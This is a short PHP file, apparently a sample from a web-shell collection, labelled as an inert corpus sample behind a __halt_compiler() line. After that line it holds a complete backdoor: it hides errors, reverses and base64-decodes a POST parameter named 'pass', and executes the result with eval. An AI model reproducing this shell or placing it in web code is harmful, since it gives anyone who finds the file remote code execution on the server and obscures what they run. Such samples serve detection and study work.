<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
ini_set("display_errors", "0");
$yaw = base64_decode(strrev($_POST['pass']));
@eval($yaw);
